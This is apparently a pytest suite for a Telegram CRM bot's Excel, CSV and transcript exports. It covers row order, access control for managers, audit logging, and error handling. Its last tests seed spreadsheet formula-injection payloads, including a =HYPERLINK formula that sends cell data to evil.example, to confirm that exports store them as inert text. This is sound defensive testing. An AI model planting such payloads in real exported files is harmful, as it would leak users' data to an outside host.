"""Exports end to end: a head presses ⬇ Excel / ⬇ CSV / 📄 on a list view or a card and receives a document
whose rows are exactly the view's rows, in its order; managers are refused; every export is audited."""

from __future__ import annotations

import asyncio
import csv
import io
import re
from datetime import UTC, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from sqlalchemy import Connection, select

import handlers.exports
from db.dialogs import DialogRow
from db.engine import Database
from db.models import AuditEntry
from db.views import ListView, StoredView
from emulator import BotAPIEmulator, ChatMessage, SentFile, SimulatedUser
from keyboards.callbacks import ExportCallback, ExportFormat
from keyboards.columns import Column
from tests.bot_harness import (
    ADMIN_ID,
    DATASET,
    HEAD_ID,
    MANAGER_ID,
    RECORDS,
    expected_order,
    local_time,
)
from views.exports import list_audit_detail, write_list
from views.formatting import format_phone
from views.texts import texts_for

HEADER = [
    "ID в CRM",
    "Клиент",
    "Канал",
    "Номер",
    "Кто завершил",
    "Начало",
    "Дата завершения",
    "Сообщений",
    "Первый ответ",
    "Самое долгое ожидание",
    "Оценка",
    "Комментарий к оценке",
]
BY_DATE, BY_MESSAGES = Column.COMPLETED_AT, Column.MESSAGES


async def list_of(user: SimulatedUser, text: str) -> ChatMessage:
    await user.send_text(text)
    return (await user.wait_answer()).message


async def export(user: SimulatedUser, message: ChatMessage, label: str) -> SentFile:
    before = len(user.documents)
    await user.press(message, label)
    await user.wait_answer()
    for _ in range(200):  # the handler sends the file before it returns; this only guards a slow machine
        if len(user.documents) > before:
            return user.documents[-1]
        await asyncio.sleep(0.05)
    raise AssertionError("no document arrived")


def audit_actions(connection: Connection) -> list[tuple[int, str, str | None]]:
    rows = connection.execute(select(AuditEntry.telegram_id, AuditEntry.action, AuditEntry.detail))
    return [(telegram_id, action, detail) for telegram_id, action, detail in rows]


def expected_rows(column: Column, descending: bool, phone_part: str | None = None) -> list[str]:
    found = [r for r in DATASET if phone_part is None or (r.client_phone and phone_part in r.client_phone)]
    return [r.source_id for r in expected_order(column, descending, found)]


async def test_the_list_as_excel_has_the_views_rows_in_its_order(
    api: BotAPIEmulator, archive: Database
) -> None:
    user = api.user(HEAD_ID)
    message = await list_of(user, "916")
    sent = await export(user, message, "⬇ Excel")

    assert sent.filename is not None and re.fullmatch(r"диалоги-\d{4}-\d\d-\d\d-\d{4}\.xlsx", sent.filename)
    assert sent.mime_type == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert sent.caption is not None and "«916»" in sent.caption and "Дата завершения ↓" in sent.caption
    workbook = openpyxl.load_workbook(io.BytesIO(sent.data), read_only=True)
    assert workbook.sheetnames == ["Диалоги"]
    sheet = workbook.active
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert rows[0] == HEADER
    assert len(rows) > 2
    assert [row[0] for row in rows[1:]] == expected_rows(BY_DATE, True, "916")
    for row in rows[1:]:
        record = RECORDS[str(row[0])]
        assert row[1] == (record.client_name or None)
        assert row[3] == (format_phone(record.client_phone, masked=False) if record.client_phone else None)
        assert row[4] == (record.completed_by or None)
        assert row[7] == record.message_count
        assert row[6] is not None and row[6].strftime("%d.%m.%Y %H:%M") == local_time(record.completed_at)
    exports = [(who, action) for who, action, _ in archive.run(audit_actions) if action == "export_list"]
    assert exports == [(HEAD_ID, "export_list")]


async def test_the_list_as_csv_opens_in_excel_with_cyrillic(api: BotAPIEmulator) -> None:
    user = api.user(ADMIN_ID)
    message = await list_of(user, "/dialogs")
    await user.press(message, "Сообщ.")
    await user.wait_answer()
    await user.press(message, "Сообщ. ↓")  # flipped: the fewest messages first
    await user.wait_answer()
    sent = await export(user, message, "⬇ CSV")

    assert sent.data.startswith(b"\xef\xbb\xbf"), "a byte order mark tells Excel it is UTF-8"
    rows = list(csv.reader(io.StringIO(sent.data.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == HEADER
    assert [row[0] for row in rows[1:]] == expected_rows(BY_MESSAGES, False)
    names = {row[1] for row in rows[1:]}
    assert "Семён Иванов" in names


async def test_a_conversation_as_a_file(api: BotAPIEmulator, archive: Database) -> None:
    user = api.user(HEAD_ID)
    message = await list_of(user, "семен иван")
    await user.press(message, "1")
    await user.wait_answer()
    sent = await export(user, message, "📄 Переписка файлом")

    assert (sent.filename, sent.mime_type) == ("переписка-crm-01.txt", "text/plain")
    text = sent.data.decode("utf-8")
    assert text.startswith("Переписка: Семён Иванов, 21.11.2026")
    assert "Номер: +7 916 123-45-67" in text
    assert "Реплика 1" in text and "Реплика 11" in text  # the whole conversation, not one page
    assert any(action == "export_transcript" for _, action, _ in archive.run(audit_actions))


async def test_managers_get_no_export_and_a_forged_one_is_refused(api: BotAPIEmulator) -> None:
    user = api.user(MANAGER_ID)
    message = await list_of(user, "/dialogs")
    labels = [label for row in message.button_rows() for label in row]
    assert "⬇ Excel" not in labels and "⬇ CSV" not in labels

    await user.press_data(message, ExportCallback(format=ExportFormat.XLSX).pack())
    reaction = await user.wait_answer()
    assert reaction.callback_answer is not None
    assert reaction.callback_answer.text == "Выгрузка доступна руководителям и администраторам."
    assert user.documents == []


async def test_a_failed_export_says_so(api: BotAPIEmulator, monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(*_: object) -> int:
        raise OSError("disk full")

    monkeypatch.setattr(handlers.exports, "write_list", broken)
    user = api.user(HEAD_ID)
    message = await list_of(user, "/dialogs")
    await user.press(message, "⬇ CSV")
    await user.wait_answer()
    for _ in range(100):
        if user.last_message.text == "Не получилось подготовить файл. Попробуйте ещё раз.":
            break
        await asyncio.sleep(0.05)
    assert user.last_message.text == "Не получилось подготовить файл. Попробуйте ещё раз."
    assert user.documents == []


def test_the_audit_log_notes_what_was_exported() -> None:
    whole = list_audit_detail("dialogs.csv", 23, None, Column.COMPLETED_AT, True)
    assert whole == "dialogs.csv; rows=23; sort=completed_at desc; search="
    view = StoredView(5, ListView(search_text="иван", channel="viber", employee_id=3, period="7d"))
    filtered = list_audit_detail("dialogs.xlsx", 2, view, Column.CLIENT, False)
    assert (
        filtered == "dialogs.xlsx; rows=2; sort=client asc; search=иван; channel=viber; employee=3; period=7d"
    )


HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1;"Нажми")', "+7 (916) шутка", "-1+1", "@SUM(1)", "\t=1+1"]


def hostile_rows() -> list[DialogRow]:
    moment = datetime(2026, 11, 20, 10, 0, tzinfo=UTC)
    return [
        DialogRow(
            id=number,
            source_id=f"=crm-{number}",
            client_name=name,
            client_phone="+79161234567",
            channel="whatsapp",
            completed_by="=1+2",
            started_at=None,
            completed_at=moment,
            message_count=3,
        )
        for number, name in enumerate(HOSTILE, start=1)
    ]


def test_excel_cells_are_text_never_formulas_or_links(tmp_path: Path) -> None:
    path = tmp_path / "dialogs.xlsx"
    assert write_list(path, ExportFormat.XLSX, [hostile_rows()], texts_for("ru"), ZoneInfo("UTC")) == 5
    sheet = openpyxl.load_workbook(path).active
    assert sheet is not None
    for row, name in enumerate(HOSTILE, start=2):
        client, employee, source = sheet.cell(row, 2), sheet.cell(row, 5), sheet.cell(row, 1)
        assert (client.value, client.data_type) == (name, "s")
        assert (employee.value, employee.data_type) == ("=1+2", "s")
        assert (source.value, source.data_type) == (f"=crm-{row - 1}", "s")
        assert client.hyperlink is None
        assert sheet.cell(row, 4).value == "+7 916 123-45-67"
        assert sheet.cell(row, 8).value == 3  # a count stays a number


def test_csv_cells_that_would_start_a_formula_are_marked_as_text(tmp_path: Path) -> None:
    path = tmp_path / "dialogs.csv"
    write_list(path, ExportFormat.CSV, [hostile_rows()], texts_for("ru"), ZoneInfo("UTC"))
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig")), delimiter=";"))
    for row, name in zip(rows[1:], HOSTILE, strict=True):
        assert row[1] == f"'{name}" and row[4] == "'=1+2" and row[0].startswith("'=crm-")
        assert row[3] == "'+7 916 123-45-67"
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
    assert rows[1][7] == "3"
